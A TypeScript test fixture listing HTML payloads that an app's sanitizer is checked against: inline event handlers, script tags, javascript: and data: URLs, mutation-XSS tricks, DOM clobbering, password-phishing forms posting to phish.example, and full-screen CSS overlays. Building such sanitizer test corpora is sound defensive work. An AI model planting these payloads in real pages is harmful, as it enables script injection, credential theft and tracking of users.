// The attack corpus for the server-HTML sanitizer (issue 17, finding 6), written for this app:
// what a hostile or compromised operator backend could put in a notice, a news item or an "about"
// page. Script payloads call `__pwned(n)` or `alert(n)` (both recorded by the test page, never
// real); the others try to leave something behind: a form, an overlay, a clobbered global, a
// tracking request, a non-https link.

export interface Payload {
  /** What the payload tries. */
  name: string;
  html: string;
}

type Group = readonly (readonly [name: string, html: string])[];

const PWN = '__pwned(1)';

/** `<img src=x onerror>` and friends: an inline handler on every kind of element. */
const eventHandlers: Group = [
  ['img onerror', `<img src=x onerror="${PWN}">`],
  ['img onerror, no quotes', `<img src=x onerror=${PWN}>`],
  ['img onload of an allowed https image', `<img src="https://img.example/a.png" onload="${PWN}">`],
  ['body onload', `<body onload="${PWN}">`],
  ['svg onload', `<svg onload="${PWN}">`],
  ['svg/onload without space', `<svg/onload=${PWN}>`],
  ['details ontoggle open', `<details open ontoggle="${PWN}"><summary>s</summary></details>`],
  ['input autofocus onfocus', `<input autofocus onfocus="${PWN}">`],
  ['select autofocus onfocus', `<select autofocus onfocus="${PWN}"><option>1</option></select>`],
  ['textarea autofocus onfocus', `<textarea autofocus onfocus="${PWN}"></textarea>`],
  ['div tabindex autofocus onfocus', `<div tabindex=1 autofocus onfocus="${PWN}">x</div>`],
  ['a onmouseover', `<a href="https://a.example" onmouseover="${PWN}">hover</a>`],
  ['p onclick', `<p onclick="${PWN}">click</p>`],
  ['marquee onstart', `<marquee onstart="${PWN}">m</marquee>`],
  ['video source onerror', `<video><source onerror="${PWN}"></video>`],
  ['audio src onerror', `<audio src=x onerror="${PWN}"></audio>`],
  ['video poster onerror', `<video poster=x onerror="${PWN}"></video>`],
  ['object onerror', `<object data=x onerror="${PWN}"></object>`],
  ['style onload', `<style onload="${PWN}"></style>`],
  ['iframe onload', `<iframe onload="${PWN}"></iframe>`],
  ['image (alias of img) onerror', `<image src=x onerror="${PWN}">`],
  ['table background onerror', `<table background=x onerror="${PWN}"><tr><td>t</td></tr></table>`],
  ['animationstart handler', `<p style="animation:spin 1s" onanimationstart="${PWN}">a</p>`],
  ['uppercase ONERROR', `<IMG SRC=x ONERROR="${PWN}">`],
  ['handler split by a slash', `<img/src=x/onerror=${PWN}>`],
  ['handler after a newline', `<img src=x\nonerror="${PWN}">`],
  ['handler with entity-encoded body', `<img src=x onerror="&#95;&#95;pwned(1)">`],
  ['handler with tab before =', `<img src=x onerror\t="${PWN}">`],
  ['td onmouseenter', `<table><tr><td onmouseenter="${PWN}">c</td></tr></table>`],
  ['li onpointerdown', `<ul><li onpointerdown="${PWN}">l</li></ul>`],
];

/** Script elements, however wrapped. */
const scripts: Group = [
  ['plain script', `<script>${PWN}</script>`],
  ['script src', `<script src="https://evil.example/x.js"></script>`],
  ['script with type module', `<script type="module">${PWN}</script>`],
  ['uppercase SCRIPT', `<SCRIPT>${PWN}</SCRIPT>`],
  ['script split by null-ish chars', `<scr<script>ipt>${PWN}</scr</script>ipt>`],
  ['script inside p', `<p>hello<script>${PWN}</script></p>`],
  ['script in a table', `<table><script>${PWN}</script></table>`],
  ['script closed by comment', `<script>/*</script><img src=x onerror=${PWN}>*/</script>`],
  ['script in noembed', `<noembed><script>${PWN}</script></noembed>`],
  ['script in xmp', `<xmp><script>${PWN}</script></xmp>`],
];

/** Script, data and other schemes in every URL-bearing attribute. */
const urls: Group = [
  ['a href javascript:', `<a href="javascript:${PWN}">x</a>`],
  ['a href JavaScript: mixed case', `<a href="JaVaScRiPt:${PWN}">x</a>`],
  ['a href javascript: with leading spaces', `<a href="   javascript:${PWN}">x</a>`],
  ['a href javascript: with tab inside', `<a href="java\tscript:${PWN}">x</a>`],
  ['a href javascript: with newline inside', `<a href="java\nscript:${PWN}">x</a>`],
  ['a href javascript: entity-encoded', `<a href="&#106;avascript:${PWN}">x</a>`],
  ['a href javascript: hex entities', `<a href="&#x6A;&#x61;vascript:${PWN}">x</a>`],
  ['a href javascript: with &colon;', `<a href="javascript&colon;${PWN}">x</a>`],
  ['a href javascript: with \\x01 prefix', `<a href="\x01javascript:${PWN}">x</a>`],
  ['a href vbscript:', `<a href="vbscript:msgbox(1)">x</a>`],
  ['a href data:text/html', `<a href="data:text/html,<script>${PWN}</script>">x</a>`],
  [
    'a href data: base64',
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  ],
  ['a href http: (not https)', `<a href="http://phish.example/login">x</a>`],
  ['a href protocol-relative', `<a href="//phish.example/login">x</a>`],
  ['a href relative path', `<a href="/#/login">x</a>`],
  ['a href file:', `<a href="file:///etc/passwd">x</a>`],
  ['a href blob:', `<a href="blob:https://a.example/1">x</a>`],
  ['a href intent:', `<a href="intent://scan/#Intent;scheme=zxing;end">x</a>`],
  ['a href sms:', `<a href="sms:+10000">x</a>`],
  ['a target _self with https', `<a href="https://a.example" target="_self">x</a>`],
  ['a rel opener', `<a href="https://a.example" target="_blank" rel="opener">x</a>`],
  ['a ping tracker', `<a href="https://a.example" ping="http://track.example/p">x</a>`],
  ['a download', `<a href="https://a.example/f.exe" download="invoice.pdf">x</a>`],
  ['img src javascript:', `<img src="javascript:${PWN}">`],
  [
    'img src data:image/svg+xml with script',
    `<img src="data:image/svg+xml,<svg onload='${PWN}'/>">`,
  ],
  ['img src data:text/html', `<img src="data:text/html,<script>${PWN}</script>">`],
  ['img src http: tracking pixel', `<img src="http://track.example/p.gif" width=1 height=1>`],
  ['img src relative tracking', `<img src="/track?u=1">`],
  ['img src protocol-relative', `<img src="//track.example/p.gif">`],
  [
    'img srcset over http',
    `<img src="https://img.example/a.png" srcset="http://track.example/a.png 2x">`,
  ],
  ['img srcset javascript', `<img srcset="javascript:${PWN} 1x">`],
  ['img lowsrc/dynsrc', `<img lowsrc="javascript:${PWN}" dynsrc="javascript:${PWN}">`],
  [
    'picture source srcset http',
    `<picture><source srcset="http://track.example/p.png"><img src="https://img.example/a.png"></picture>`,
  ],
  ['iframe src javascript', `<iframe src="javascript:${PWN}"></iframe>`],
  ['iframe srcdoc', `<iframe srcdoc="<script>parent.${PWN}</script>"></iframe>`],
  ['embed src', `<embed src="javascript:${PWN}">`],
  ['object data', `<object data="javascript:${PWN}"></object>`],
  ['form action javascript', `<form action="javascript:${PWN}"><button>go</button></form>`],
  ['button formaction', `<button formaction="javascript:${PWN}">go</button>`],
  ['input type image src', `<input type=image src=x onerror="${PWN}">`],
  ['video poster http', `<video poster="http://track.example/p.png"></video>`],
  ['blockquote cite javascript', `<blockquote cite="javascript:${PWN}">q</blockquote>`],
  [
    'td background http',
    `<table><tr><td background="http://track.example/p.png">c</td></tr></table>`,
  ],
  ['body background http', `<body background="http://track.example/p.png">b</body>`],
  [
    'area href javascript',
    `<map name=m><area shape=rect coords=0,0,99,99 href="javascript:${PWN}"></map>`,
  ],
  ['svg a xlink:href', `<svg><a xlink:href="javascript:${PWN}"><text y=20>x</text></a></svg>`],
  [
    'svg use href data',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${PWN}'/></svg>#x"/></svg>`,
  ],
  ['math href', `<math href="javascript:${PWN}"><mi>x</mi></math>`],
  ['link import', `<link rel=import href="https://evil.example/x.html">`],
  ['link stylesheet http', `<link rel=stylesheet href="http://evil.example/x.css">`],
];

/** SVG and MathML namespace confusion, mutation XSS through re-parsing. */
const mxss: Group = [
  ['svg style img', `<svg><style><img src=x onerror="${PWN}"></style></svg>`],
  [
    'math mtext table mglyph style',
    `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}">`,
  ],
  [
    'math mtext mglyph svg',
    `<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=${PWN} src>">`,
  ],
  ['svg p style', `<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">`],
  ['svg foreignObject', `<svg><foreignObject><img src=x onerror="${PWN}"></foreignObject></svg>`],
  [
    'math annotation-xml',
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${PWN}"></annotation-xml></math>`,
  ],
  ['svg desc', `<svg><desc><img src=x onerror="${PWN}"></desc></svg>`],
  ['svg title', `<svg><title><img src=x onerror="${PWN}"></title></svg>`],
  ['noscript title attribute', `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`],
  ['noscript in p', `<p><noscript><img src=x onerror=${PWN}></noscript></p>`],
  ['template content', `<template><img src=x onerror="${PWN}"></template>`],
  ['template in svg', `<svg><template><img src=x onerror="${PWN}"></template></svg>`],
  ['textarea closing in attribute', `<textarea><p title="</textarea><img src=x onerror=${PWN}>">`],
  ['title closing in attribute', `<title><p title="</title><img src=x onerror=${PWN}>">`],
  ['style closing in attribute', `<style><p title="</style><img src=x onerror=${PWN}>">`],
  ['comment closing in attribute', `<!--<p title="--><img src=x onerror=${PWN}>">`],
  ['comment with --!>', `<!-- --!><img src=x onerror=${PWN}> -->`],
  ['bogus comment <?', `<?xml ?><img src=x onerror=${PWN}>`],
  ['CDATA in svg', `<svg><![CDATA[><img src=x onerror=${PWN}>]]></svg>`],
  [
    'form nested in form',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${PWN}>`,
  ],
  ['select keygen', `<select><keygen autofocus onfocus=${PWN}>`],
  ['table foster parenting', `<table><tr><td>a</td></tr><img src=x onerror=${PWN}></table>`],
  ['svg inside table', `<table><svg><style><img src=x onerror=${PWN}></style></svg></table>`],
  ['xmp closing trick', `<xmp><p title="</xmp><img src=x onerror=${PWN}>">`],
  ['iframe text trick', `<iframe><p title="</iframe><img src=x onerror=${PWN}>">`],
  ['noembed closing trick', `<noembed><p title="</noembed><img src=x onerror=${PWN}>">`],
  ['noframes closing trick', `<noframes><p title="</noframes><img src=x onerror=${PWN}>">`],
  ['plaintext', `<plaintext><img src=x onerror=${PWN}>`],
  [
    'svg animate href',
    `<svg><a><animate attributeName=href values="javascript:${PWN}"/><text y=20>x</text></a></svg>`,
  ],
  ['svg set onbegin', `<svg><set attributeName=x onbegin="${PWN}"/></svg>`],
  [
    'math maction',
    `<math><maction actiontype="statusline" xlink:href="javascript:${PWN}">x</maction></math>`,
  ],
  ['double-encoded lt', `&lt;img src=x onerror=${PWN}&gt;`],
  [
    'nested quotes in attribute',
    `<a title='"><img src=x onerror=${PWN}>' href="https://a.example">x</a>`,
  ],
  ['backtick attribute', '<img src=`x` onerror=`__pwned(1)`>'],
  ['null byte in tag', `<img\0 src=x onerror=${PWN}>`],
];

/** id and name attributes that would shadow globals or document properties. */
const clobbering: Group = [
  ['img name cookie', `<img name="cookie" src="https://img.example/a.png">`],
  ['form name getElementById', `<form name="getElementById"></form>`],
  ['img name body', `<img name="body">`],
  ['a id alert', `<a id="alert" href="https://a.example">x</a>`],
  ['a id __pwned', `<a id="__pwned">x</a>`],
  [
    'two anchors id config (HTMLCollection)',
    `<a id="config"></a><a id="config" name="apiHost" href="https://evil.example">x</a>`,
  ],
  ['form with nested input name', `<form id="settings"><input name="token" value="evil"></form>`],
  ['img name defaultView', `<img name="defaultView">`],
  ['embed name querySelector', `<embed name="querySelector">`],
  ['object id localStorage', `<object id="localStorage"></object>`],
  ['iframe name top', `<iframe name="top"></iframe>`],
  ['div id isAdmin', `<div id="isAdmin">1</div>`],
  ['p id attributes', `<p id="attributes">p</p>`],
  ['form name with input attributes', `<form name="f"><input name="attributes"></form>`],
  ['img name createElement', `<img name="createElement">`],
  ['a name documentElement', `<a name="documentElement">x</a>`],
  ['id with user-content prefix', `<p id="user-content-x">x</p>`],
  ['span id x then script reads x', `<span id="x"></span><img src=x onerror="x.innerHTML='p'">`],
];

/** Forms and controls that could ask for a password or post it elsewhere. */
const phishing: Group = [
  [
    'password form posting off-site',
    `<form action="https://phish.example/steal" method="post"><p>会话已过期，请重新输入密码</p><input type="password" name="pwd"><button>确定</button></form>`,
  ],
  ['bare password input', `<input type="password" placeholder="资金密码">`],
  ['input with form attribute', `<input form="login" name="pwd" type="password">`],
  ['button type submit alone', `<button type="submit">提交</button>`],
  ['select and option', `<select name="bank"><option>中国银行</option></select>`],
  ['textarea', `<textarea placeholder="请输入验证码"></textarea>`],
  [
    'fieldset legend label',
    `<fieldset><legend>登录</legend><label>密码<input type=password></label></fieldset>`,
  ],
  ['isindex', `<isindex action="https://phish.example" prompt="password">`],
  ['dialog open', `<dialog open><p>请重新登录</p><input type=password></dialog>`],
  ['contenteditable div', `<div contenteditable="true">type here</div>`],
  ['meta refresh to phishing', `<meta http-equiv="refresh" content="0;url=https://phish.example">`],
  ['base href hijack', `<base href="https://phish.example/"><a href="login">x</a>`],
  ['base target', `<base target="_top"><a href="https://a.example">x</a>`],
  ['a with form content', `<a href="https://phish.example"><input type=password></a>`],
  [
    'object html page',
    `<object data="https://phish.example/login.html" type="text/html"></object>`,
  ],
  ['embed html page', `<embed src="https://phish.example/login.html" type="text/html">`],
  [
    'iframe phishing page',
    `<iframe src="https://phish.example/login" width=400 height=800></iframe>`,
  ],
  ['frameset', `<frameset><frame src="https://phish.example"></frameset>`],
  ['portal', `<portal src="https://phish.example"></portal>`],
  ['a popover button', `<button popovertarget="p">x</button><div popover id="p">请输入密码</div>`],
];

/** Overlays and look-alikes through CSS, classes or positioning. */
const overlays: Group = [
  [
    'fixed full-screen div',
    `<div style="position:fixed;inset:0;z-index:9999;background:#fff">请重新登录</div>`,
  ],
  [
    'absolute cover',
    `<div style="position:absolute;top:0;left:0;width:100vw;height:100vh">x</div>`,
  ],
  ['sticky banner', `<p style="position:sticky;top:0">x</p>`],
  ['style element global rule', `<style>body{display:none} *{position:fixed!important}</style>`],
  ['style in body p', `<p>x</p><style>.adm-tab-bar{display:none}</style>`],
  ['class of antd-mobile mask', `<div class="adm-mask adm-mask-aria-button">x</div>`],
  ['class of antd-mobile popup', `<div class="adm-popup adm-popup-body">x</div>`],
  ['class from the app modules', `<div class="_header_1a2b3 noticeBody">x</div>`],
  ['style url javascript', `<div style="background:url(javascript:${PWN})">x</div>`],
  ['style expression', `<div style="width:expression(${PWN})">x</div>`],
  ['style behavior', `<div style="behavior:url(x.htc)">x</div>`],
  ['style -moz-binding', `<div style="-moz-binding:url(x.xml#xss)">x</div>`],
  [
    'style http background tracker',
    `<div style="background-image:url(http://track.example/p.png)">x</div>`,
  ],
  ['style import in style tag', `<style>@import url(http://evil.example/x.css);</style>`],
  [
    'svg full-screen',
    `<svg width="100%" height="100%" style="position:fixed;top:0"><rect width="100%" height="100%"/></svg>`,
  ],
  ['img huge size', `<img src="https://img.example/a.png" width="99999" height="99999">`],
  ['img negative size', `<img src="https://img.example/a.png" width="-1" height="1e9">`],
  ['table with huge width', `<table width="5000"><tr><td>x</td></tr></table>`],
  ['font color/size', `<font color="red" size="7" face="x">x</font>`],
  ['center and marquee', `<center><marquee>x</marquee></center>`],
  ['data attribute for app CSS', `<div data-tabbar>x</div>`],
  ['aria-hidden and role', `<div role="dialog" aria-modal="true" aria-hidden="true">x</div>`],
  ['hidden attribute', `<p hidden>x</p>`],
  ['inert attribute', `<p inert>x</p>`],
  ['dir rtl override', `<p dir="rtl">x</p>`],
];

/** A few harmless pieces mixed with an attack, so the test also shows what stays. */
const mixed: Group = [
  [
    'rich notice with a script tail',
    `<h3>公告</h3><p>正文<strong>加粗</strong></p><ul><li>一</li></ul><script>${PWN}</script>`,
  ],
  [
    'https link and image kept',
    `<p><a href="https://a.example">a</a><img src="https://img.example/a.png" alt="a"></p>`,
  ],
  ['mailto and tel links', `<a href="mailto:help@a.example">m</a> <a href="tel:+8610000">t</a>`],
  [
    'inline raster image',
    `<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=" alt="dot">`,
  ],
  ['quill classes', `<p class="ql-align-center ql-indent-1 adm-mask">x</p>`],
  [
    'table with colspan',
    `<table><tr><th colspan="2" rowspan="x">h</th></tr><tr><td>a</td><td>b</td></tr></table>`,
  ],
  ['unicode homoglyph link text', `<a href="https://xn--pple-43d.example">apple.com</a>`],
  ['very long word', `<p>${'W'.repeat(400)}</p>`],
];

const groups = { eventHandlers, scripts, urls, mxss, clobbering, phishing, overlays, mixed };

export const PAYLOADS: readonly Payload[] = Object.entries(groups).flatMap(([group, items]) =>
  items.map(([name, html]) => ({ name: `${group}: ${name}`, html })),
);
